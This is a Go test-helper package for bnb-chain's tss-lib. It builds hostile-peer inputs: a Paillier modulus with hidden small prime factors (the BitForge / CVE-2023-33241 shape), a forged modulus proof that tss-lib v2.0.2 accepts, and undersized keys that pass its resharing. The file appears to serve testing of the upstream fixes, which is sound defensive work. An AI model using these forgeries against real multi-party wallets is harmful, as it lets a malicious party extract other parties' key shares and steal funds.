package mpctest

import (
	"crypto/rand"
	"fmt"
	"math/big"

	"github.com/bnb-chain/tss-lib/v2/common"
	"github.com/bnb-chain/tss-lib/v2/crypto/modproof"
	"github.com/bnb-chain/tss-lib/v2/crypto/paillier"
)

// Hostile-peer material, built from the public descriptions of the attacks
// on tss-lib's Paillier keys. Tests only.

// SmallPrimeModulus is a 2048-bit "Paillier modulus" N = S·Q where S is a
// product of many distinct small primes (the BitForge / CVE-2023-33241
// shape: a party whose Paillier key hides small factors learns the other
// party's share, residue by residue, in signing) and Q a prime ≡ 3 mod 4.
// gcd(N, λ(N)) = 1, so N-th roots exist and a mod proof can be forged
// (ForgeModProof).
type SmallPrimeModulus struct {
	N, S, Q *big.Int
	Primes  []*big.Int
}

// NewSmallPrimeModulus builds one with small primes of primeBits bits
// (safe primes, so p-1 = 2·p' shares no factor with N), filling about
// 1600 bits with them.
func NewSmallPrimeModulus(primeBits int) (*SmallPrimeModulus, error) {
	one := big.NewInt(1)
	m := &SmallPrimeModulus{S: big.NewInt(1)}
	lo := new(big.Int).Lsh(one, uint(primeBits-1))
	hi := new(big.Int).Lsh(one, uint(primeBits))
	for p := new(big.Int).Add(lo, one); p.Cmp(hi) < 0 && m.S.BitLen() < 1600; p.Add(p, big.NewInt(2)) {
		half := new(big.Int).Rsh(p, 1)
		if p.ProbablyPrime(10) && half.ProbablyPrime(10) {
			m.Primes = append(m.Primes, new(big.Int).Set(p))
			m.S.Mul(m.S, p)
		}
	}
	if m.S.BitLen() < 1000 {
		return nil, fmt.Errorf("mpctest: not enough %d-bit safe primes", primeBits)
	}
	for tries := 0; tries < 10000; tries++ {
		q, err := rand.Prime(rand.Reader, 2048-m.S.BitLen()+1)
		if err != nil {
			return nil, err
		}
		if q.Bit(1) != 1 { // want q ≡ 3 mod 4
			continue
		}
		n := new(big.Int).Mul(m.S, q)
		if n.BitLen() != 2048 {
			continue
		}
		if new(big.Int).GCD(nil, nil, n, new(big.Int).Sub(q, one)).Cmp(one) != 0 {
			continue
		}
		m.N, m.Q = n, q
		return m, nil
	}
	return nil, fmt.Errorf("mpctest: no Q found")
}

// lambda is lcm(p-1 for every prime factor).
func (m *SmallPrimeModulus) lambda() *big.Int {
	one := big.NewInt(1)
	l := new(big.Int).Sub(m.Q, one)
	for _, p := range m.Primes {
		pm := new(big.Int).Sub(p, one)
		g := new(big.Int).GCD(nil, nil, l, pm)
		l.Mul(l, pm).Div(l, g)
	}
	return l
}

// ForgeModProof forges a Paillier-Blum modulus proof for m.N that tss-lib
// v2.0.2's modproof.Verify(session, m.N) accepts: W = S divides N, so
// Jacobi(W, N) = 0 (not 1: accepted), every X_i is 0 modulo S and a fourth
// root of ±W·Y_i modulo Q, and Z_i = Y_i^(N^-1 mod λ(N)). Upstream PR #323
// (not in v2.0.2) rejects it by requiring gcd(W, N) = 1.
func (m *SmallPrimeModulus) ForgeModProof(session []byte) (*modproof.ProofMod, error) {
	n, q := m.N, m.Q
	w := new(big.Int).Set(m.S)
	d := new(big.Int).ModInverse(n, m.lambda())
	if d == nil {
		return nil, fmt.Errorf("mpctest: N not invertible mod λ(N)")
	}
	// fourth root modulo the Blum prime q of a quadratic residue v:
	// v^(((q+1)/4)^2) (a square root that is itself a residue, twice).
	e := new(big.Int).Add(q, big.NewInt(1))
	e.Rsh(e, 2)
	e.Mul(e, e)
	pf := &modproof.ProofMod{W: w, A: new(big.Int).Lsh(big.NewInt(1), modproof.Iterations), B: new(big.Int).Lsh(big.NewInt(1), modproof.Iterations)}
	var ys []*big.Int
	sInvQ := new(big.Int).ModInverse(m.S, q)
	for i := 0; i < modproof.Iterations; i++ {
		ei := common.SHA512_256i_TAGGED(session, append([]*big.Int{w, n}, ys...)...)
		y := common.RejectionSample(n, ei)
		ys = append(ys, y)
		v := new(big.Int).Mul(w, y) // b = 1: W·Y
		v.Mod(v, q)
		a := uint(0)
		if big.Jacobi(v, q) != 1 {
			v.Sub(q, v) // a = 1: -W·Y
			a = 1
		}
		r := new(big.Int).Exp(v, e, q)
		// x = r·S·(S^-1 mod q) mod N: ≡ r mod q, ≡ 0 mod S
		x := new(big.Int).Mul(r, m.S)
		x.Mul(x, sInvQ).Mod(x, n)
		pf.X[i] = x
		pf.Z[i] = new(big.Int).Exp(y, d, n)
		pf.A.SetBit(pf.A, i, a)
		pf.B.SetBit(pf.B, i, 1)
	}
	return pf, nil
}

// WeakPaillierKey returns a Paillier key of bits bits from two Blum primes
// (p ≡ q ≡ 3 mod 4), for which tss-lib's own provers produce valid mod and
// fac proofs: a peer with it passes tss-lib v2.0.2's resharing, which never
// checks the modulus size.
func WeakPaillierKey(bits int) (*paillier.PrivateKey, error) {
	one := big.NewInt(1)
	blum := func() (*big.Int, error) {
		for {
			p, err := rand.Prime(rand.Reader, bits/2)
			if err != nil {
				return nil, err
			}
			if p.Bit(1) == 1 {
				return p, nil
			}
		}
	}
	for {
		p, err := blum()
		if err != nil {
			return nil, err
		}
		q, err := blum()
		if err != nil {
			return nil, err
		}
		n := new(big.Int).Mul(p, q)
		if p.Cmp(q) == 0 || n.BitLen() != bits {
			continue
		}
		pm, qm := new(big.Int).Sub(p, one), new(big.Int).Sub(q, one)
		phi := new(big.Int).Mul(pm, qm)
		lambda := new(big.Int).Div(phi, new(big.Int).GCD(nil, nil, pm, qm))
		return &paillier.PrivateKey{PublicKey: paillier.PublicKey{N: n}, LambdaN: lambda, PhiN: phi, P: p, Q: q}, nil
	}
}
